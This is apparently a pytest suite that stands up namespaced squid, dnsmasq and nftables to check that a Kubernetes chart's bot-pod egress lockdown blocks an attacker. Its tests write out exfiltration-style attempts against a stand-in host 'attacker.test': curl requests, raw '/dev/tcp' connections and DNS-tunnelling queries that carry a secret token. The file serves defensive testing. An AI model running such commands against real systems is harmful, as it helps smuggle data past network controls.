"""Egress lockdown, as an attacker in the bot pod would try it.

Three network namespaces made by this test: "pod" (the bot pod: nftables rules made from the chart's bot
NetworkPolicy, the pod-local dnsmasq started with the dns container's exact command line, as a non-root user with no
capabilities), "proxy" (squid with the squid.conf rendered from the chart's ConfigMap, as a non-root user; a dnsmasq
that plays the cluster DNS, with A and PTR records for the upstream names) and "internet" (an HTTPS server on an
address per name, with a git smart-HTTP repository, certificates from a throwaway CA). The proxy namespace forwards
packets, as a cluster network would: only the NetworkPolicy stands between the pod and the internet, as in a cluster.
"""

from __future__ import annotations

import os
import re
import secrets
import shutil
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any, Iterator

import pytest
from egress import certs
from egress import render as chart
from egress.netlab import Lab

HERE = Path(__file__).resolve().parent
PROXY_IP = "198.51.100.1"          # the proxy Service's ClusterIP in this test (the proxy namespace's address)
POD_IP = "198.51.100.2"
GITLAB = "gitlab.example.test"
UPSTREAM = {                        # name → address in the "internet" namespace
    GITLAB: "203.0.113.10",
    "api.openai.com": "203.0.113.11",
    "attacker.test": "203.0.113.12",
    "chatgpt.com": "203.0.113.13",
    "auth.openai.com": "203.0.113.14",
}
UNPRIVILEGED = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--no-new-privs",
                "--inh-caps=-all", "--bounding-set=-all"]
CLEAN_ENV = {"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null", "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}


def make_ca_and_cert(directory: Path) -> Path:
    """A throwaway CA and one server certificate for every upstream name; returns the CA file."""
    return certs.make_ca_and_cert(directory, [*UPSTREAM, "*.attacker.test"], UPSTREAM.values())


def make_repository(root: Path) -> None:
    """GIT_ROOT/group/repo.git with one commit."""
    src = root / "src"
    env = {**CLEAN_ENV, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.test",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.test", "HOME": str(root)}
    subprocess.run(["git", "init", "-q", "-b", "main", str(src)], check=True, env=env)
    (src / "README").write_text("reviewed code\n")
    subprocess.run(["git", "-C", str(src), "add", "README"], check=True, env=env)
    subprocess.run(["git", "-C", str(src), "commit", "-qm", "first"], check=True, env=env)
    (root / "group").mkdir()
    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(root / "group" / "repo.git")], check=True, env=env)
    shutil.rmtree(src)


def nft_rules_from_network_policy(policy: dict[str, Any], proxy_labels: dict[str, str]) -> str:
    """nftables rules for the pod namespace that do what the chart's bot NetworkPolicy does.

    Each egress rule whose peer selects the proxy pods becomes "to PROXY_IP on its ports"; a rule with any other
    peer fails the test (this lab has nothing else to point it at). Ingress: the policy's ports, from anywhere.
    """
    egress = []
    for rule in policy["spec"]["egress"]:
        peers = rule.get("to", [])
        assert peers and all(p.get("podSelector", {}).get("matchLabels") == proxy_labels for p in peers), rule
        ports = ", ".join(str(p["port"]) for p in rule["ports"] if p.get("protocol", "TCP") == "TCP")
        egress.append(f"ip daddr {PROXY_IP} tcp dport {{ {ports} }} counter accept")
    ingress = [f"tcp dport {{ {', '.join(str(p['port']) for p in r['ports'])} }} accept"
               for r in policy["spec"]["ingress"]]
    return "\n".join([
        "table inet netpol {",
        "  counter refused {}",
        "  chain output {",
        "    type filter hook output priority 0; policy drop;",
        "    oif \"lo\" accept",
        "    ct state established,related accept",
        *[f"    {r}" for r in egress],
        "    meta l4proto tcp counter name refused reject with tcp reset",
        "    counter name refused reject with icmpx admin-prohibited",
        "  }",
        "  chain input {",
        "    type filter hook input priority 0; policy drop;",
        "    iif \"lo\" accept",
        "    ct state established,related accept",
        *[f"    {r}" for r in ingress],
        "  }",
        "}",
        "",
    ])


class Egress:
    """The running lab and the rendered chart objects it was made from."""

    def __init__(self, lab: Lab, ca: Path, docs: list[dict[str, Any]]) -> None:
        self.lab = lab
        self.ca = ca
        self.docs = docs
        self.proxy_host = chart.env_of(chart.container(chart.find(docs, "Deployment", "warden"), "bot"))[
            "WARDEN_HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)[0]

    def pod(self, argv: list[str], env: dict[str, str] | None = None, timeout: float = 30) -> subprocess.CompletedProcess[str]:
        return self.lab.run("pod", argv, check=False, env={**CLEAN_ENV, "HOME": "/nonexistent", **(env or {})},
                            timeout=timeout)

    def curl(self, url: str, proxy_port: int | None, role: str = "pod", extra: list[str] | None = None) -> tuple[int, str, str]:
        """curl from a namespace; returns (exit code, "<CONNECT code> <HTTP code>", stderr)."""
        argv = ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_connect} %{http_code}", "--cacert", str(self.ca),
                "--max-time", "10", "--noproxy", ""]
        if proxy_port is not None:
            argv += ["--proxy", f"http://{self.proxy_host}:{proxy_port}"]
        result = self.lab.run(role, [*argv, *(extra or []), url], check=False,
                              env={**CLEAN_ENV, "HOME": "/nonexistent"})
        return result.returncode, result.stdout.strip(), result.stderr.strip()

    def refused_count(self) -> int:
        out = self.lab.run("pod", ["nft", "list", "counter", "inet", "netpol", "refused"]).stdout
        return int(re.search(r"packets (\d+)", out).group(1))


@pytest.fixture(scope="module")
def egress() -> Iterator[Egress]:
    started = time.monotonic()
    docs = chart.render({"gitlab": {"url": f"https://{GITLAB}"},
                         "egressProxy": {"service": {"clusterIP": PROXY_IP}}})
    bot = chart.find(docs, "Deployment", "warden")
    pod_spec = bot["spec"]["template"]["spec"]
    squid_conf = chart.find(docs, "ConfigMap", "warden-egress-proxy")["data"]["squid.conf"]
    dns = chart.container(bot, "dns")
    policy = chart.find(docs, "NetworkPolicy", "warden-bot")
    proxy_labels = chart.find(docs, "Deployment", "warden-egress-proxy")["spec"]["selector"]["matchLabels"]

    workdir = Path(tempfile.mkdtemp(prefix="warden-egress-", dir="/tmp"))
    workdir.chmod(0o755)
    lab = Lab(f"wdn{os.getpid() % 100000}", workdir)
    try:
        ca = make_ca_and_cert(workdir)
        (workdir / "git").mkdir()
        make_repository(workdir / "git")

        dns_config = pod_spec["dnsConfig"]
        resolv = "".join(f"nameserver {n}\n" for n in dns_config["nameservers"])
        resolv += "options " + " ".join(f"{o['name']}:{o['value']}" for o in dns_config.get("options", [])) + "\n"
        lab.add_namespace("pod", resolver=resolv)
        lab.add_namespace("proxy", resolver="nameserver 127.0.0.1\n")
        lab.add_namespace("internet")
        lab.link("pod", "p0", f"{POD_IP}/24", "proxy", "x0", f"{PROXY_IP}/24")
        lab.link("proxy", "x1", "203.0.113.1/24", "internet", "i1", "203.0.113.2/24")
        for address in UPSTREAM.values():
            lab.run("internet", ["ip", "addr", "add", f"{address}/32", "dev", "i1"])
        # The cluster network routes everything: pod → proxy node → internet and back.
        lab.run("pod", ["ip", "route", "add", "default", "via", PROXY_IP])
        lab.run("internet", ["ip", "route", "add", "198.51.100.0/24", "via", "203.0.113.1"])
        lab.run("proxy", ["sysctl", "-qw", "net.ipv4.ip_forward=1"])

        # The NetworkPolicy, as nftables rules in the pod.
        (workdir / "netpol.nft").write_text(nft_rules_from_network_policy(policy, proxy_labels))
        lab.run("pod", ["nft", "-f", str(workdir / "netpol.nft")])

        # The internet.
        upstream = lab.start("internet", "upstream", ["python3", str(HERE / "egress" / "upstream.py"),
                                                      str(workdir / "server.pem"), str(workdir / "server.key"),
                                                      str(workdir / "git"), "443"])
        # The cluster DNS the proxy uses: A and PTR records for every upstream name, *.attacker.test too.
        records = [f"--host-record={name},{address}" for name, address in UPSTREAM.items()]
        cluster_dns = lab.start("proxy", "cluster-dns", [
            "dnsmasq", "--keep-in-foreground", "--log-facility=-", "--log-queries", "--pid-file", "--no-resolv",
            "--no-hosts", f"--listen-address=127.0.0.1,{PROXY_IP}", "--bind-interfaces", *records,
            f"--address=/attacker.test/{UPSTREAM['attacker.test']}"])
        # The pod-local DNS: the dns container's own command line, unprivileged, on a read-only root (the container
        # has no writable volume), with the pod's sysctls.
        for sysctl in pod_spec["securityContext"].get("sysctls", []):
            lab.run("pod", ["sysctl", "-qw", f"{sysctl['name']}={sysctl['value']}"])
        pod_dns = lab.start("pod", "pod-dns", [*UNPRIVILEGED, *dns["command"], *dns["args"]], owner=65534,
                            read_only_root=True)
        # Squid with the rendered configuration and the container's command line, unprivileged, read-only root but
        # /tmp (its emptyDir).
        (workdir / "squid.conf").write_text(squid_conf)
        proxy = chart.container(chart.find(docs, "Deployment", "warden-egress-proxy"), "squid")
        squid = lab.start("proxy", "squid", [*UNPRIVILEGED, *proxy["command"], *proxy["args"][:-1],
                                             str(workdir / "squid.conf")],
                          owner=65534, read_only_root=True, writable=["/tmp"])

        lab.wait_tcp("internet", "127.0.0.1", 443, upstream, "upstream")
        lab.wait_tcp("proxy", "127.0.0.1", 53, cluster_dns, "cluster-dns")
        lab.wait_tcp("pod", "127.0.0.1", 53, pod_dns, "pod-dns")
        lab.wait_tcp("proxy", PROXY_IP, 3128, squid, "squid")
        lab.wait_tcp("proxy", PROXY_IP, 3129, squid, "squid")
        print(f"egress lab up in {time.monotonic() - started:.1f}s")
        yield Egress(lab, ca, docs)
    finally:
        lab.close()
        if not os.environ.get("WARDEN_EGRESS_KEEP"):
            shutil.rmtree(workdir, ignore_errors=True)


# -- controls: the lab is not vacuous ----------------------------------------------------------------------------

def test_control_the_attacker_server_answers_without_the_pod_policy(egress: Egress) -> None:
    # From the proxy namespace (no NetworkPolicy there) the attacker's server is up and reachable.
    rc, codes, err = egress.curl("https://attacker.test/hello", None, role="proxy")
    assert (rc, codes) == (0, "000 200"), err


def test_control_the_proxy_name_resolves_in_the_pod_to_its_service_ip(egress: Egress) -> None:
    out = egress.pod(["dig", "+short", egress.proxy_host]).stdout.split()
    assert out == [PROXY_IP]
    assert egress.pod(["getent", "hosts", egress.proxy_host]).stdout.split()[0] == PROXY_IP


# -- the attacker's tries ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("port", [3128, 3129])
def test_an_unlisted_host_through_the_proxy_gets_403(egress: Egress, port: int) -> None:
    rc, codes, err = egress.curl("https://attacker.test/hello", port)
    assert rc != 0 and codes.startswith("403"), (rc, codes, err)


def test_https_proxy_from_the_environment_is_refused_too(egress: Egress) -> None:
    result = egress.pod(["curl", "-sS", "--cacert", str(egress.ca), "--max-time", "10", "https://attacker.test/"],
                        env={"HTTPS_PROXY": f"http://{egress.proxy_host}:3129"})
    assert result.returncode != 0 and "403" in result.stderr, result.stderr


def test_without_the_proxy_the_name_does_not_resolve_and_the_address_is_refused(egress: Egress) -> None:
    rc, _, err = egress.curl("https://attacker.test/hello", None)
    assert rc == 6, err  # could not resolve host: the pod's DNS knows only the proxy
    before = egress.refused_count()
    rc, _, err = egress.curl("https://attacker.test/hello", None,
                             extra=["--resolve", f"attacker.test:443:{UPSTREAM['attacker.test']}"])
    assert rc == 7, err  # connection refused by the NetworkPolicy
    assert egress.refused_count() > before


@pytest.mark.parametrize("target", [(UPSTREAM["attacker.test"], 443), (UPSTREAM["api.openai.com"], 443),
                                    (PROXY_IP, 53), (PROXY_IP, 8080)])
def test_a_raw_tcp_connection_is_refused(egress: Egress, target: tuple[str, int]) -> None:
    host, port = target
    result = egress.pod(["bash", "-c", f"echo > /dev/tcp/{host}/{port}"])
    assert result.returncode != 0 and "Connection refused" in result.stderr, result.stderr


def test_dns_tunnelling_gets_nxdomain_and_no_query_leaves_the_pod(egress: Egress) -> None:
    lab = egress.lab
    capture = lab.workdir / "pod-p0.pcap"
    tcpdump = lab.start("pod", "tcpdump", ["tcpdump", "-i", "p0", "-nn", "-U", "--immediate-mode", "-Z", "root",
                                           "-w", str(capture)])
    lab.wait_log("tcpdump", "listening on p0")
    secret = secrets.token_hex(16)
    via_resolver = egress.pod(["dig", f"{secret}.attacker.test"])
    direct = egress.pod(["dig", f"@{PROXY_IP}", f"direct{secret}.attacker.test", "+time=1", "+tries=1"])
    reverse = egress.pod(["dig", "-x", UPSTREAM["attacker.test"]])
    # Positive control: traffic that may leave (the proxy) is seen by the same capture.
    rc, codes, err = egress.curl("https://api.openai.com/hello", 3129)
    time.sleep(0.5)
    lab.stop(tcpdump)

    assert "status: NXDOMAIN" in via_resolver.stdout, via_resolver.stdout
    assert "status: NXDOMAIN" in reverse.stdout, reverse.stdout
    assert direct.returncode != 0 and "NOERROR" not in direct.stdout, direct.stdout
    assert (rc, codes) == (0, "200 200"), err
    packets = lab.run("pod", ["tcpdump", "-nn", "-r", str(capture)]).stdout.splitlines()
    assert any(".3129" in p for p in packets), packets
    assert not [p for p in packets if ".53:" in p or ".53 " in p], packets
    # The cluster DNS (where a leaked query would go next) saw none of them, but did see squid's lookups.
    cluster_log = lab.log("cluster-dns")
    assert secret not in cluster_log
    assert "api.openai.com" in cluster_log
    assert secret in lab.log("pod-dns")  # answered (NXDOMAIN) by the pod's own dnsmasq


def test_git_clone_of_the_gitlab_host_through_codex_port_gets_403(egress: Egress, tmp_path: Path) -> None:
    url = f"https://{GITLAB}/git/group/repo.git"
    through = {3128: None, 3129: None}
    for port in through:
        dest = tmp_path / f"clone-{port}"
        through[port] = egress.pod(["git", "-c", f"http.sslCAInfo={egress.ca}", "clone", "-q", url, str(dest)],
                                   env={"HTTPS_PROXY": f"http://{egress.proxy_host}:{port}"})
    assert through[3129].returncode != 0 and "403" in through[3129].stderr, through[3129].stderr
    # The same clone through Warden's port works: the 403 is the port's allowlist, not a broken server.
    assert through[3128].returncode == 0, through[3128].stderr
    assert (tmp_path / "clone-3128" / "README").read_text() == "reviewed code\n"


@pytest.mark.parametrize(("name", "port", "allowed"), [
    (GITLAB, 3128, True), (GITLAB, 3129, False),
    ("api.openai.com", 3129, True), ("api.openai.com", 3128, False),
    ("auth.openai.com", 3129, True), ("auth.openai.com", 3128, False),
    ("chatgpt.com", 3128, True), ("chatgpt.com", 3129, True),
])
def test_allowed_names_work_on_their_own_port_only(egress: Egress, name: str, port: int, allowed: bool) -> None:
    rc, codes, err = egress.curl(f"https://{name}/hello", port)
    if allowed:
        assert (rc, codes) == (0, "200 200"), err
    else:
        assert rc != 0 and codes.startswith("403"), (rc, codes, err)


@pytest.mark.parametrize("port", [3128, 3129])
def test_connect_to_a_raw_ip_is_refused_even_when_it_reverse_resolves_to_an_allowed_name(egress: Egress, port: int) -> None:
    address = UPSTREAM["api.openai.com"] if port == 3129 else UPSTREAM[GITLAB]
    # The setup an attacker would rely on: the address's PTR record names an allowed host.
    ptr = egress.lab.run("proxy", ["dig", "+short", "-x", address]).stdout.strip()
    assert ptr in {"api.openai.com.", f"{GITLAB}."}, ptr
    rc, codes, err = egress.curl(f"https://{address}/hello", port)
    assert rc != 0 and codes.startswith("403"), (rc, codes, err)


@pytest.mark.parametrize(("url", "port"), [
    ("http://api.openai.com/hello", 3129),          # plain HTTP through the proxy: not a CONNECT
    ("https://api.openai.com:8443/hello", 3129),    # CONNECT to another port of an allowed name
    (f"https://{GITLAB}:22/", 3128),
])
def test_anything_but_connect_to_443_is_refused(egress: Egress, url: str, port: int) -> None:
    extra = ["--proxytunnel"] if url.startswith("https") else []
    rc, codes, err = egress.curl(url, port, extra=extra)
    assert "403" in codes, (rc, codes, err)


def test_the_proxy_log_names_the_port_of_every_request(egress: Egress) -> None:
    egress.curl("https://attacker.test/marker-for-log", 3129)
    egress.lab.wait_log("squid", "port=3129 CONNECT attacker.test:443 403")


@pytest.mark.parametrize("label", ["squid", "pod-dns"])
def test_squid_and_the_pod_dns_ran_unprivileged_on_a_read_only_root(egress: Egress, label: str) -> None:
    # As the chart's containers do: non-root, no capability, no new privileges, `/` read-only (/tmp writable for squid).
    proc = next(p for name, p in egress.lab.processes if name == label)
    assert proc.poll() is None, egress.lab.log(label)
    status = Path(f"/proc/{proc.pid}/status").read_text()
    assert re.search(r"^Uid:\s+65534\s+65534\s+65534\s+65534$", status, re.M), status
    assert re.search(r"^CapEff:\s+0+$", status, re.M) and re.search(r"^NoNewPrivs:\s+1$", status, re.M)
    mounts = [line.split() for line in Path(f"/proc/{proc.pid}/mountinfo").read_text().splitlines()]
    root = next(m for m in mounts if m[4] == "/")
    assert "ro" in root[5].split(","), root
    tmp = [m for m in mounts if m[4] == "/tmp"]
    assert bool(tmp) == (label == "squid") and all("rw" in m[5].split(",") for m in tmp)
